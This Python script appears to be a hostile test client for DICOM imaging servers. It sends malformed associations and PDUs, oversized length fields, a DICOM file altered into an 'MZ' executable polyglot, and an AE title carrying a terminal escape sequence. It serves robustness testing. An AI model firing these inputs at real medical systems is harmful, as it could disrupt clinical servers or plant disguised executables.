#!/usr/bin/env python3
"""A DICOM client that does what none should, each in a connection of its own.

usage: dicom_hostile.py HOST PORT FILE      FILE: sent as it is, preamble and all
"""
import socket
import struct
import sys

CT, EXPLICIT = b'1.2.840.10008.5.1.4.1.1.2', b'1.2.840.10008.1.2.1'
VERIFICATION = b'1.2.840.10008.1.1'


def pdu(kind, body, length=None):
    return struct.pack('>BBI', kind, 0, len(body) if length is None else length) + body


def item(kind, body):
    return struct.pack('>BBH', kind, 0, len(body)) + body


def context(number, abstract):
    return item(0x20, bytes([number, 0, 0, 0]) + item(0x30, abstract) + item(0x40, EXPLICIT))


def request(called=b'ARCHIVE', contexts=((1, CT), (3, VERIFICATION))):
    fixed = struct.pack('>HH', 1, 0) + called.ljust(16) + b'CT1'.ljust(16) + bytes(32)
    user = item(0x51, struct.pack('>I', 16384)) + item(0x52, b'1.2.826.0.1.3680043.10.1337')
    return pdu(1, fixed + item(0x10, b'1.2.840.10008.3.1.1.1') + b''.join(context(*c) for c in contexts) +
               item(0x50, user))


def command(*elements):
    body = b''.join(struct.pack('<HHI', 0, tag, len(v)) + v for tag, v in elements)
    return struct.pack('<HHII', 0, 0, 4, len(body)) + body


def number(tag, n):
    return tag, struct.pack('<H', n)


def store():
    return command((2, CT + b'\0'), number(0x100, 1), number(0x110, 1), number(0x700, 0), number(0x800, 1),
                   (0x1000, b'1.2.826.0.1.3680043.10.1337.4.9\0'))


def echo():
    return command((2, VERIFICATION + b'\0'), number(0x100, 0x30), number(0x110, 1), number(0x800, 0x101))


def pdv(number_, control, data, length=None):
    return struct.pack('>IBB', len(data) + 2 if length is None else length, number_, control) + data


def converse(address, *said):
    """Says each when the one before was answered, or a second has passed."""
    with socket.create_connection(address, timeout=1) as s:
        for one in said:
            try:
                s.sendall(one)
                s.recv(65536)
            except OSError:
                pass


def main():
    address = (sys.argv[1], int(sys.argv[2]))
    with open(sys.argv[3], 'rb') as f:
        file = f.read()
    polyglot = b'MZ\x90\0' + file[4:]
    cut = [polyglot[i:i + 12000] for i in range(0, len(polyglot), 12000)]
    data = b''.join(pdu(4, pdv(1, 2 if part is cut[-1] else 0, part)) for part in cut)
    converse(address, request(), pdu(4, pdv(1, 3, store())) + data)
    converse(address, pdu(4, pdv(3, 3, echo())))  # nobody asked for an association
    converse(address, request(b'ARCH\x1b]0;x'))
    converse(address, request(contexts=((2, CT),)))
    converse(address, pdu(1, request()[6:], 0xfffffff0))
    converse(address, request(), pdu(4, pdv(5, 3, echo())))  # a context that was not agreed on
    converse(address, request(), pdu(4, pdv(3, 3, echo(), 0x7fffffff)))
    converse(address, request(), pdu(4, pdv(1, 3, store())), pdu(4, pdv(3, 3, echo())))  # where data is due
    converse(address, request(), pdu(4, pdv(1, 3, store()) + pdv(1, 0, bytes(20000))))  # more than agreed at once
    converse(address, request(), pdu(9, b'\0\0\0\0'))


if __name__ == '__main__':
    main()
